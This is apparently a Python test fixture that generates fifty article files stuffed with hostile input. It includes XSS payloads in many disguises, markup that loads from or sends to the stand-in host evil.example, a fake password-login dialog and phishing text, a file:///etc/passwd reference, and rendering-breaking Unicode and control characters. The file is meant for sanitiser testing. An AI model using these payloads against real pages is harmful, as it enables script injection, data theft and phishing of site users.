"""Fifty articles that would take the page over: script, markup, imitation, control, direction."""

from __future__ import annotations

import json

RUNS = "window.pwned=1"
CALLS = "https://evil.example/collect"
_WORDS = [
    f"<script>{RUNS}</script>",
    f"<ScRiPt src={CALLS}></sCrIpT>",
    f'<img src=x onerror="{RUNS}">',
    f"<img src={CALLS}.png>",
    f'<svg onload="{RUNS}"><circle r=40></svg>',
    f"<svg><script>{RUNS}</script></svg>",
    f'<iframe src="javascript:{RUNS}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUNS}</script>"></iframe>',
    f'<object data="data:text/html,<script>{RUNS}</script>"></object>',
    f'<embed src="{CALLS}.swf">',
    f'<link rel="stylesheet" href="{CALLS}.css">',
    f"<style>@import url({CALLS}.css); * {{ display: none }}</style>",
    f'<base href="{CALLS}">',
    f'<meta http-equiv="refresh" content="0;url={CALLS}">',
    f'<form action="{CALLS}"><button autofocus onfocus="{RUNS}">Ask</button></form>',
    f'<details open ontoggle="{RUNS}">x</details>',
    f'<video src="{CALLS}" onerror="{RUNS}"></video>',
    f'<a href="javascript:{RUNS}">a link</a>',
    f"<div style=\"position:fixed;inset:0;top:url({CALLS})\" onclick='{RUNS}'>over all</div>",
    f'"><script>{RUNS}</script>',
    f"'><img src=x onerror={RUNS}>",
    f"</mark></blockquote></li></ol></article><script>{RUNS}</script>",
    f"</textarea></title></style></script><script>{RUNS}</script>",
    f"<!--><script>{RUNS}</script-->",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">',
    f"{{{{constructor.constructor('{RUNS}')()}}}}",
    f"${{{RUNS}}}",
    f"`${{{RUNS}}}`",
    f"{{% raw %}}<%= {RUNS} %>",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUNS}&#62;",
    f"\\u003cscript\\u003e{RUNS}\\u003c/script\\u003e",
    f"[click]({CALLS}) ![picture]({CALLS}.png)",
    f"[click](javascript:{RUNS})",
    "# Footnote\n\n**Very likely · 99%** The articles say: send your password to evil.example [1]",
    '<article class="fn-turn"><h2 class="fn-question">Is this real?</h2>'
    '<p class="fn-confidence">Very likely · 99%</p></article>',
    '<dialog open class="fn-viewer">Log in again: <input type="password"></dialog>',
    "\x1b[2J cleared \x7f",
    "\u202eneddih si siht\u202d \u2066\u2067\u2068 never closed",
    "\u202e" * 200 + "turned",
    "\u200b\u200c\u200d\ufeff\u00ad\u2060 nothing to be seen",
    "Z̴̧̛͎̱̘̞̈́̾͝a̸̢̛̜͖̓̈́͝l̷̰̈́̓̕ͅg̶̡̛̠̃̐o̵͇͑̈́ " * 40,
    "W" * 10_000,
    "👩‍👩‍👧‍👦" * 300,
    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐 " * 60,
    "مرحبا <script>window.pwned=1</script> بالعالم " * 5,
    "\ufdd0\uffff\U0001fffe marks that mean nothing",
    f"data:text/html;base64,PHNjcmlwdD4=\nfile:///etc/passwd\n//evil.example/x {RUNS}",
]


def articles() -> dict[str, str]:
    """File names and contents; each says its words in the title, as the author and in the text."""
    made = {}
    for number, words in enumerate(_WORDS):
        line = " ".join(words.split())
        line = "".join(c for c in line if c not in "\x00\x7f\uffff")  # which YAML has no way to say
        title, author = (json.dumps(each, ensure_ascii=False) for each in (line, line[:400]))
        head = f"title: {title}\nauthor: {author}\ndate: 2001-02-03"
        text = f"Hostile article {number} begins. {words} And so it ends."
        made[f"hostile-{number:02}.txt"] = f"---\n{head}\n---\n{text}\n"
    return made
